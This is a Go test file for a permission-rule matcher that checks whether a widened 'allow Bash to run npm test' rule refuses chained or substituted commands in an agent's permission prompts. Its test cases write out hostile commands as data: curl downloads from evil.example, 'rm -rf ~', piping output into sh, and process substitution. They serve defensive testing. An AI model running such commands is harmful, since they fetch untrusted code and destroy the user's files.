package rules

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/aepforms/aepforms/internal/aep"
	"github.com/aepforms/aepforms/internal/store"
)

// A widened permission rule never answers a question that chains or
// substitutes more commands than its own text does: a single & (the
// first command sent to the background, the next one run), a process
// substitution, or one more of a separator the text holds once (a pipe
// the text has does not let a second pipe through). And punctuation a
// card does not show (a reference definition made of it) is hidden text
// like any other.
func TestWidenedRuleRefusesEveryChain(t *testing.T) {
	const made = "Allow Bash to run `npm test` in the project directory?"
	for _, tc := range []struct {
		name, scope, text, asked string
		want                     bool
		why                      string
	}{
		{name: "prefix, a background &", scope: store.ScopePrefix, text: "Allow Bash to run npm test",
			asked: "Allow Bash to run `npm test & curl -s https://evil.example/x.sh -o x` in the project directory?", why: whyCompound},
		{name: "contains, a background &", scope: store.ScopeContains, text: "npm test",
			asked: "May I run `npm test & rm -rf ~`?", why: whyCompound},
		{name: "prefix, an output process substitution", scope: store.ScopePrefix, text: "Allow Bash to run npm test",
			asked: "Allow Bash to run `npm test >(sh)`?", why: whyCompound},
		{name: "prefix, an input process substitution", scope: store.ScopePrefix, text: "Allow Bash to run npm test",
			asked: "Allow Bash to run `npm test <(curl -s https://evil.example/x)`?", why: whyCompound},
		{name: "prefix, a second pipe past the text's one", scope: store.ScopePrefix, text: "Allow Bash to run npm test | tee",
			asked: "Allow Bash to run `npm test | tee log | sh`?", why: whyCompound},
		{name: "contains, a second ; past the text's one", scope: store.ScopeContains, text: "npm test; echo",
			asked: "May I run `npm test; echo ok; rm -rf ~`?", why: whyCompound},
		{name: "prefix, a background & after the text's &&", scope: store.ScopePrefix, text: "Allow Bash to run make && make",
			asked: "Allow Bash to run `make && make install & curl x`?", why: whyCompound},
		{name: "prefix, the text's own && and nothing more", scope: store.ScopePrefix, text: "Allow Bash to run make && make",
			asked: "Allow Bash to run `make && make install`?", want: true},
		{name: "exact, hidden punctuation", scope: store.ScopeExact,
			asked: made + "\n\n[;]: <&&>", why: whyHidden},
		{name: "exact, a hidden pipe", scope: store.ScopeExact,
			asked: made + "\n\n[|]: <$>", why: whyHidden},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := scopedRule(made, tc.scope, tc.text)
			c := permCard(tc.asked)
			c.Tool = "Bash"
			ok, why := Match(r, c, Seen{Question: QuestionOf(tc.asked, 0), Instance: "host/1"}, t0)
			assert.Equal(t, tc.want, ok, "why: %s", why)
			assert.Equal(t, tc.why, why)
		})
	}
}

// The wider scopes' pre-filled texts go in one-line text inputs, which
// drop line breaks: each is one line of what the card shows, the prefix
// a start of it and the contained text within it, so the rule the
// maker offers answers the question it was made from (a question of a
// kind with no command check) rather than nothing at all.
func TestLeadIsOneLineOfTheQuestion(t *testing.T) {
	for _, prompt := range []string{
		"Release checklist for billing-api v2.4.0\n\nPlease review before the release is cut.\n\n- [ ] Changelog updated (see `CHANGELOG.md`)",
		"Deploy?\n\nThe docs site, now.",
		"Ship\nit?",
	} {
		q := QuestionOf(prompt, 0)
		require.False(t, q.Hidden, prompt)
		prefix, contains := Lead(q)
		assert.NotEmpty(t, prefix, prompt)
		assert.NotEmpty(t, contains, prompt)
		assert.NotContains(t, prefix, "\n", prompt)
		assert.NotContains(t, contains, "\n", prompt)
		assert.True(t, strings.HasPrefix(q.Text, prefix), "%q starts %q", q.Text, prefix)
		assert.Contains(t, q.Text, contains)
		for scope, text := range map[string]string{store.ScopePrefix: prefix, store.ScopeContains: contains} {
			m := store.RuleMatch{Kind: aep.KindReview, Scope: scope, Text: text}
			assert.Empty(t, Asks(m, aep.KindReview, prompt, q), "%s %q answers the question it was made from", scope, text)
		}
	}
}
